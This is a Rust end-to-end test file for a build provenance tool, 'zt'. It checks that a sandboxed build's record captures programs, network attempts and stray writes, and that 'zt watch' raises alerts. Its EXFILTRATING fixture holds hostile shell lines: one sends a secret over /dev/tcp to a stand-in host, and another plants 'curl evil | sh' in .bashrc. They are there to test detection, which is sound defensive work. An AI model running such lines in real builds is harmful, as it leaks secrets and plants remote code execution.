//! End to end: the build record carries what the build did (programs with digests, network
//! attempts, writes outside the output, CPU and memory), and `zt watch` turns the ledger's
//! records into alerts.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common;

use std::path::Path;

use common::{git, text, zt};

fn repo(script: &str, zt_toml: Option<&str>) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    git(dir.path(), &["init", "-q"]);
    fs_err::write(dir.path().join("build.sh"), script).unwrap();
    if let Some(t) = zt_toml {
        fs_err::write(dir.path().join("zt.toml"), t).unwrap();
    }
    git(dir.path(), &["add", "."]);
    git(dir.path(), &["commit", "-qm", "build script"]);
    dir
}

fn build(dir: &Path) -> serde_json::Value {
    let out = zt(dir)
        .args(["build", "--json", "--out", "out", "--", "bash", "build.sh"])
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    let report: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    let st: serde_json::Value =
        serde_json::from_slice(&fs_err::read(report["provenance"].as_str().unwrap()).unwrap())
            .unwrap();
    st["predicate"]["buildDefinition"]["internalParameters"]["behaviour"].clone()
}

const NORMAL: &str = "mkdir -p out\n/usr/bin/cat build.sh > out/app\n";
const EXFILTRATING: &str = "mkdir -p out\n/usr/bin/cat build.sh > out/app\n\
    (echo secret > /dev/tcp/203.0.113.7/443) 2>/dev/null || true\n\
    echo 'curl evil | sh' > .bashrc\n";

#[test]
fn the_build_record_carries_programs_network_attempts_and_writes() {
    let dir = repo(EXFILTRATING, None);
    let b = build(dir.path());
    assert_eq!(b["recorded"], true, "{b:#}");
    // The digest recorded is that of the file the sandbox showed: the host's /usr/bin/cat.
    let cat = zt_core::Digest::sha256(&fs_err::read("/usr/bin/cat").unwrap()).to_string();
    let executed = b["executed"].as_array().unwrap();
    assert!(
        executed
            .iter()
            .any(|e| e["path"] == "/usr/bin/cat" && e["digest"] == cat.as_str()),
        "{b:#}"
    );
    assert!(
        executed
            .iter()
            .any(|e| e["path"] == "/usr/bin/bash" || e["path"] == "/bin/bash"),
        "{b:#}"
    );
    let net = b["network"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["family"] == "inet")
        .unwrap();
    assert_eq!(net["address"], "203.0.113.7", "{b:#}");
    assert_eq!(net["port"], 443);
    assert_eq!(net["outcome"], "refused");
    assert!(net["program"].as_str().unwrap().ends_with("/bash"), "{b:#}");
    assert_eq!(b["writes"], serde_json::json!([".bashrc"]), "{b:#}");
    assert!(b["durationMs"].as_u64().is_some());
    assert!(b["peakRssKiB"].as_u64().unwrap() > 0, "{b:#}");
    // The write never reached the real tree.
    assert!(!dir.path().join(".bashrc").exists());
}

#[test]
fn zt_watch_reports_what_is_new_to_the_pipeline_with_its_evidence() {
    // A local receiver for the `[[notify]]` webhook: it keeps each request's body.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let r = received.clone();
    std::thread::spawn(move || {
        use std::io::{BufRead as _, Read as _, Write as _};
        for conn in listener.incoming() {
            let Ok(mut s) = conn else { continue };
            let mut rd = std::io::BufReader::new(s.try_clone().unwrap());
            let mut len = 0usize;
            loop {
                let mut h = String::new();
                if rd.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
                    break;
                }
                if let Some(v) = h.to_ascii_lowercase().strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap();
                }
            }
            let mut body = vec![0; len];
            rd.read_exact(&mut body).unwrap();
            r.lock().unwrap().push(String::from_utf8(body).unwrap());
            let _ = s.write_all(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n");
        }
    });
    let toml = format!("[[notify]]\nkind = \"webhook\"\nurl = \"{url}\"\nevents = [\"alert\"]\n");
    let dir = repo(NORMAL, Some(&toml));
    for _ in 0..10 {
        let b = build(dir.path());
        // (bash asks glibc for the user's name, which tries nscd's unix socket: recorded like
        // any attempt, and part of this pipeline's baseline.)
        assert!(
            b["network"]
                .as_array()
                .unwrap()
                .iter()
                .all(|n| n["family"] == "unix"),
            "{b:#}"
        );
    }
    let quiet = zt(dir.path()).args(["watch", "--json"]).output().unwrap();
    let (stdout, stderr) = text(&quiet);
    assert_eq!(quiet.status.code(), Some(0), "{stderr}");
    let v: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(v["builds"], 10);
    assert_eq!(v["alerts"], serde_json::json!([]), "{stdout}");

    fs_err::write(dir.path().join("build.sh"), EXFILTRATING).unwrap();
    git(dir.path(), &["commit", "-qam", "innocent change"]);
    build(dir.path());
    let out = zt(dir.path())
        .args(["watch", "--json", "--fail-on-alert"])
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}\n{stderr}");
    let v: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    let kinds: Vec<&str> = v["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        vec!["network-attempt", "write-outside-output"],
        "{stdout}"
    );
    let net = &v["alerts"][0];
    assert_eq!(net["evidence"]["endpoint"], "203.0.113.7:443");
    assert!(
        net["why"]
            .as_str()
            .unwrap()
            .contains("none of the last 10 builds")
    );
    assert_eq!(net["commit"].as_str().unwrap().len(), 40);

    let sarif = zt(dir.path()).args(["watch", "--sarif"]).output().unwrap();
    let s: serde_json::Value = serde_json::from_slice(&sarif.stdout).unwrap();
    assert_eq!(s["version"], "2.1.0");
    assert_eq!(s["runs"][0]["results"][0]["ruleId"], "network-attempt");
    assert_eq!(s["runs"][0]["results"][0]["level"], "error");

    // --since: a later window reports nothing, but the baseline still holds every build.
    let later = zt(dir.path())
        .args(["watch", "--json", "--since", "2999-01-01T00:00:00Z"])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&later.stdout).unwrap();
    assert_eq!(v["alerts"], serde_json::json!([]));
    assert_eq!(v["builds"], 11);
    let bad = zt(dir.path())
        .args(["watch", "--since", "yesterday"])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));

    // Each alert reached the webhook once, however often `zt watch` ran.
    let got = received.lock().unwrap().clone();
    assert_eq!(got.len(), 2, "{got:?}");
    // Deliveries run in the background: their order is not the alerts' order.
    let delivered: Vec<serde_json::Value> = got
        .iter()
        .map(|g| serde_json::from_str(g).unwrap())
        .collect();
    assert!(delivered.iter().all(|d| d["event"] == "alert"), "{got:?}");
    let first = delivered
        .iter()
        .find(|d| d["details"]["kind"] == "network-attempt")
        .unwrap_or_else(|| panic!("no network-attempt alert delivered: {got:?}"));
    assert!(
        first["fix"]
            .as_str()
            .unwrap()
            .contains("zt incident bad-commit")
    );
}
